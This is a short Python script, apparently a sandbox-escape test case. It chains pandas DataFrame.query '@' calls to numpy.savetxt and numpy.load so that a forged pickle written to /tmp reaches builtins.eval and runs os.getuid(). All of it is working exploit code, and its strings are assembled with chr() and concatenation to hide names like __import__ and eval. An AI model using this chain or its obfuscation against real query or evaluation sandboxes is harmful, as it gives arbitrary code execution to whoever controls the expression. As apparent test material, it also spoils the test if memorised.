# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call + numpy npyio.load pickle fallback; pickle GLOBAL builtins.eval
# family: DataFrame.query "(@f)(...)" call of imported np.savetxt/np.load -> unpickling reaches builtins.eval
# goal: runs eval("__import__(\"os\").getuid()") via a forged pickle: code run by a name built at run time
import pandas as pd
import numpy as np
from numpy import savetxt, load
df = pd.DataFrame({"a": [1, 2, 3]})
u = chr(95) * 2
p = chr(47) + "tmp" + chr(47) + "w"
q = chr(47) + "tmp" + chr(47) + "v"
code = u + "import" + u + "('os').getuid()"
rows = np.array(["c" + "built" + "ins", "ev" + "al", "(V" + code, "tR."])
fmt = chr(37) + "s"
none = None


def show(x):
    print("result:", x)
    return 0


df.query("a > (@show)((@savetxt)(@p, @rows, @fmt))")
df.query("a > (@show)((@load)(@p, @none, True))")
